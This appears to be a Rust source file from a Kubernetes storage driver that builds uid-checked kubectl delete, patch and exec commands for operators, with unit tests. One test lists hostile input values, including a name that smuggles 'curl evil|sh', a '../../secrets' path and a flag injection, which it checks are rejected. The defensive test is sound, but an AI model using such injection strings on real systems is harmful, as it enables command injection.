//! The commands that events and plans print for people.
//!
//! An object changes between the moment in which a command is printed and that in which a person runs it, and its names are
//! texts of others. So a command names one object by its uid, which the API server compares, and exists only if every name
//! in it has its grammar. No word needs a quote of the shell then, and a JSON text has none either.

use std::fmt;

use objects::manifest::{is_name, is_namespace};
use objects::{NameHash, ObjectId, VolumeId};
use serde_json::{Value, json};

use crate::objects::Identity;
use crate::wire::Kind;

/// The longest name of a pod that a `DaemonSet` makes. Two commands with longer ones would not fit into an event.
const MAX_POD: usize = 63;
/// The container of the driver in its pod, and the driver there.
const DRIVER: &str = "-c driver -- /rootcellar";

/// A line for `sh`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Command(String);

impl Command {
    /// Its bytes.
    pub(crate) fn len(&self) -> usize {
        self.0.len()
    }

    /// Both commands, the second one only if the first one succeeds.
    pub(crate) fn then(&self, next: &Self) -> Self {
        Self(format!("{self} && {next}"))
    }
}

impl fmt::Display for Command {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// The reason why no command about an object is printed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
#[error("its {part} has characters that no {part} of a {kind} has")]
pub(crate) struct Unprintable {
    part: &'static str,
    kind: &'static str,
}

/// One object, and no other one that gets its name later.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Target {
    kind: Kind,
    /// Empty for an object without one.
    namespace: String,
    name: String,
    uid: String,
}

impl Target {
    pub(crate) fn new(kind: Kind, object: &Identity) -> Result<Self, Unprintable> {
        let Identity {
            namespace,
            name,
            uid,
            ..
        } = object;
        Self::named(kind, namespace, name, uid)
    }

    /// An object that another one names.
    pub(crate) fn named(
        kind: Kind,
        namespace: &str,
        name: &str,
        uid: &str,
    ) -> Result<Self, Unprintable> {
        let fits = if is_in_namespace(kind) {
            is_namespace(namespace)
        } else {
            namespace.is_empty()
        };
        let parts = [
            ("namespace", fits),
            ("name", is_name(name)),
            ("uid", is_uid(uid)),
        ];
        match parts.into_iter().find(|(_, fits)| !fits) {
            Some((part, _)) => Err(Unprintable {
                part,
                kind: kind.singular,
            }),
            None => Ok(Self {
                kind,
                namespace: namespace.to_owned(),
                name: name.to_owned(),
                uid: uid.to_owned(),
            }),
        }
    }

    /// Deletes the object. `kubectl delete` has no flag for the uid.
    pub(crate) fn delete(&self) -> Command {
        let uid = &self.uid;
        let options =
            json!({"apiVersion": "v1", "kind": "DeleteOptions", "preconditions": {"uid": uid}});
        let (options, path) = (quoted(&options), self.path());
        Command(format!("echo {options} | kubectl delete --raw {path} -f -"))
    }

    /// Changes the object by these operations, all or none.
    pub(crate) fn patch(&self, operations: &[Operation<'_>]) -> Command {
        let is_this = Operation::Test(&["metadata", "uid"], self.uid.clone().into());
        let operations = [&is_this].into_iter().chain(operations);
        let patch = quoted(&operations.map(Operation::json).collect());
        let resource = self.kind.resource();
        let kind = match (self.kind, &*resource.group) {
            // An event has little space.
            (Kind::VOLUME, _) => "pv".to_owned(),
            (Kind::CLAIM, _) => "pvc".to_owned(),
            (_, "") => resource.plural,
            (_, group) => format!("{}.{group}", resource.plural),
        };
        let namespace = match &*self.namespace {
            "" => String::new(),
            namespace => format!(" -n {namespace}"),
        };
        let name = &self.name;
        Command(format!(
            "kubectl patch {kind} {name}{namespace} --type=json -p {patch}"
        ))
    }

    /// The path of the object in the API.
    fn path(&self) -> String {
        let resource = self.kind.resource();
        let group = match &*resource.group {
            "" => "/api".to_owned(),
            group => format!("/apis/{group}"),
        };
        let namespace = match &*self.namespace {
            "" => String::new(),
            namespace => format!("/namespaces/{namespace}"),
        };
        let (version, plural, name) = (resource.version, resource.plural, &self.name);
        format!("{group}/{version}{namespace}/{plural}/{name}")
    }
}

/// An operation of a JSON patch, at the path of these keys.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Operation<'a> {
    /// Fails the patch if the value is another one.
    Test(&'a [&'a str], Value),
    /// Fails the patch if there is no value.
    Remove(&'a [&'a str]),
    /// Fails the patch if there is no value.
    Replace(&'a [&'a str], Value),
}

impl Operation<'_> {
    fn json(&self) -> Value {
        match self {
            Self::Test(path, value) => {
                json!({"op": "test", "path": pointer(path), "value": value})
            }
            Self::Remove(path) => json!({"op": "remove", "path": pointer(path)}),
            Self::Replace(path, value) => {
                json!({"op": "replace", "path": pointer(path), "value": value})
            }
        }
    }
}

/// The path as RFC 6901 writes it.
fn pointer(path: &[&str]) -> String {
    let escaped = path
        .iter()
        .map(|key| key.replace('~', "~0").replace('/', "~1"));
    escaped.fold(String::new(), |path, key| path + "/" + &key)
}

/// A JSON text as one word of the shell. It has ASCII alone, and neither quotes that the shell knows nor those around
/// commands in events.
fn quoted(json: &Value) -> String {
    let mut text = String::new();
    for char in json.to_string().chars() {
        if matches!(char, '\'' | '`' | '\u{7f}'..) {
            let mut units = [0; 2];
            let units = char.encode_utf16(&mut units).iter();
            text.extend(units.map(|unit| format!("\\u{unit:04x}")));
        } else {
            text.push(char);
        }
    }
    format!("'{text}'")
}

fn is_in_namespace(kind: Kind) -> bool {
    matches!(
        kind,
        Kind::CLAIM | Kind::SNAPSHOT | Kind::POD | Kind::STATEFUL_SET | Kind::CAPACITY
    )
}

/// Whether a text is a UUID as the API server writes it.
fn is_uid(text: &str) -> bool {
    let is_right = |(place, byte): (usize, u8)| match place {
        8 | 13 | 18 | 23 => byte == b'-',
        _ => byte.is_ascii_digit() || (b'a'..=b'f').contains(&byte),
    };
    text.len() == 36 && text.bytes().enumerate().all(is_right)
}

/// The driver in its pod. The name of a pod of a `DaemonSet` is never used twice.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Driver {
    namespace: String,
    pod: String,
}

impl Driver {
    pub(crate) fn new(namespace: &str, pod: &str) -> Result<Self, Unprintable> {
        let kind = Kind::POD.singular;
        if !is_namespace(namespace) {
            let part = "namespace";
            return Err(Unprintable { part, kind });
        }
        if pod.len() > MAX_POD || !is_name(pod) {
            return Err(Unprintable { part: "name", kind });
        }
        Ok(Self {
            namespace: namespace.to_owned(),
            pod: pod.to_owned(),
        })
    }

    /// Runs `rootcellar volume VERB` or `rootcellar snapshot VERB`. The hash names one object as the id does, and without
    /// the id of the pool, which an event must not show.
    pub(crate) fn run<I: ObjectId>(&self, verb: &'static str, hash: NameHash) -> Command {
        let Self { namespace, pod } = self;
        let object = I::OBJECT;
        Command(format!(
            "kubectl exec -n {namespace} {pod} {DRIVER} {object} {verb} {hash}"
        ))
    }

    /// Deletes the data of a volume or a snapshot, unless an object names it by then.
    pub(crate) fn delete<I: ObjectId>(&self, hash: NameHash) -> Command {
        let objects = if I::OBJECT == VolumeId::OBJECT {
            "kubectl get pv -o jsonpath='{.items[*].spec.csi.volumeHandle}'"
        } else {
            "kubectl get volumesnapshotcontents -o jsonpath='{.items[*].status.snapshotHandle} \
             {.items[*].spec.source.snapshotHandle}'"
        };
        let delete = self.run::<I>("delete", hash);
        Command(format!(
            "H=$({objects}) && case $H in *{hash}*) echo an object names it;; *) {delete};; esac"
        ))
    }

    /// Writes the objects that the node's volumes and snapshots lack, for a person to read: the node may be anybody's.
    pub(crate) fn restore(&self) -> Command {
        let Self { namespace, pod } = self;
        Command(format!(
            "kubectl get pvc -A -o json | kubectl exec -i -n {namespace} {pod} {DRIVER} volume manifest --all --claims \
             --snapshots --known - >restore.yaml"
        ))
    }
}

#[cfg(test)]
mod tests {
    use objects::{PoolId, SnapshotId};

    use super::*;

    const UID: &str = "0b0e7d6a-1f0e-4d36-9d8c-6f1f4d3c2b1a";

    /// Proves: F15.
    #[test]
    fn a_command_names_one_object_by_its_uid() {
        let volume = Target::named(Kind::VOLUME, "", "pvc-1", UID).unwrap();
        let claim = Target::named(Kind::CLAIM, "shop", "data-db-0", UID).unwrap();
        let content = Target::named(Kind::CONTENT, "", "content-1", UID).unwrap();
        let options = format!(
            r#"echo '{{"apiVersion":"v1","kind":"DeleteOptions","preconditions":{{"uid":"{UID}"}}}}' | kubectl delete --raw"#
        );
        let is_this = format!(r#"{{"op":"test","path":"/metadata/uid","value":"{UID}"}}"#);
        let retained = [
            Operation::Remove(&["metadata", "annotations", "a.example/b~c"]),
            Operation::Replace(&["spec", "persistentVolumeReclaimPolicy"], "Delete".into()),
        ];
        let cases = [
            (
                volume.delete(),
                format!("{options} /api/v1/persistentvolumes/pvc-1 -f -"),
            ),
            (
                claim.delete(),
                format!("{options} /api/v1/namespaces/shop/persistentvolumeclaims/data-db-0 -f -"),
            ),
            (
                content.delete(),
                format!(
                    "{options} /apis/snapshot.storage.k8s.io/v1/volumesnapshotcontents/content-1 -f -"
                ),
            ),
            (
                volume.patch(&retained),
                format!(
                    "kubectl patch pv pvc-1 --type=json -p '[{is_this},{}]'",
                    r#"{"op":"remove","path":"/metadata/annotations/a.example~1b~0c"},{"op":"replace","path":"/spec/persistentVolumeReclaimPolicy","value":"Delete"}"#
                ),
            ),
            (
                claim.patch(&[]),
                format!("kubectl patch pvc data-db-0 -n shop --type=json -p '[{is_this}]'"),
            ),
            (
                content.patch(&[Operation::Test(&["spec", "driver"], "it's `é😀".into())]),
                format!(
                    "kubectl patch volumesnapshotcontents.snapshot.storage.k8s.io content-1 --type=json -p '[{is_this},{}]'",
                    r#"{"op":"test","path":"/spec/driver","value":"it\u0027s \u0060\u00e9\ud83d\ude00"}"#
                ),
            ),
        ];
        for (command, text) in cases {
            assert_eq!(command.to_string(), text);
        }
    }

    /// Proves: F15.
    #[test]
    fn a_command_of_the_driver_names_data_by_its_hash() {
        let pool = PoolId::random();
        let hash = VolumeId::new(pool, &"pvc-1".parse().unwrap()).hash();
        let driver = Driver::new("rootcellar-system", "rootcellar-x7k2p").unwrap();
        let exec = "rootcellar-system rootcellar-x7k2p -c driver -- /rootcellar";
        let cases = [
            (
                driver.run::<VolumeId>("manifest", hash),
                format!("kubectl exec -n {exec} volume manifest {hash}"),
            ),
            (
                driver.delete::<VolumeId>(hash),
                format!(
                    "H=$(kubectl get pv -o jsonpath='{{.items[*].spec.csi.volumeHandle}}') && case $H in *{hash}*) echo an \
                     object names it;; *) kubectl exec -n {exec} volume delete {hash};; esac"
                ),
            ),
            (
                driver.delete::<SnapshotId>(hash),
                format!(
                    "H=$(kubectl get volumesnapshotcontents -o jsonpath='{{.items[*].status.snapshotHandle}} \
                     {{.items[*].spec.source.snapshotHandle}}') && case $H in *{hash}*) echo an object names it;; *) \
                     kubectl exec -n {exec} snapshot delete {hash};; esac"
                ),
            ),
            (
                driver.restore(),
                format!(
                    "kubectl get pvc -A -o json | kubectl exec -i -n {exec} volume manifest --all --claims --snapshots \
                     --known - >restore.yaml"
                ),
            ),
        ];
        for (command, text) in cases {
            assert_eq!(command.to_string(), text);
        }
        for (namespace, pod) in [("a;b", "pod"), ("a", "-pod"), ("a", &*"x".repeat(64))] {
            assert!(Driver::new(namespace, pod).is_err(), "{namespace} {pod}");
        }
    }

    /// Proves: F15.
    #[test]
    fn a_command_exists_only_if_every_name_has_its_grammar() {
        let long = "x".repeat(254);
        let cases = [
            ("shop", "a b; curl evil|sh #", UID, "name"),
            ("shop", "a\nb", UID, "name"),
            ("shop", "../../secrets/x", UID, "name"),
            ("shop", "--all", UID, "name"),
            ("shop", "", UID, "name"),
            ("shop", &long, UID, "name"),
            ("", "a", UID, "namespace"),
            ("sh'op", "a", UID, "namespace"),
            ("a.b", "a", UID, "namespace"),
            ("shop", "a", "", "uid"),
            ("shop", "a", "uid-of-a", "uid"),
            ("shop", "a", &UID.to_uppercase(), "uid"),
            ("shop", "a", &UID.replace('-', "0"), "uid"),
        ];
        for (namespace, name, uid, part) in cases {
            let target = Target::named(Kind::CLAIM, namespace, name, uid);
            let kind = "PersistentVolumeClaim";
            assert_eq!(target, Err(Unprintable { part, kind }), "{name:?}");
        }
        assert!(Target::named(Kind::VOLUME, "shop", "a", UID).is_err());
        let unprintable = Target::named(Kind::VOLUME, "", "A", UID).unwrap_err();
        let fact = "its name has characters that no name of a PersistentVolume has";
        assert_eq!(unprintable.to_string(), fact);
    }
}
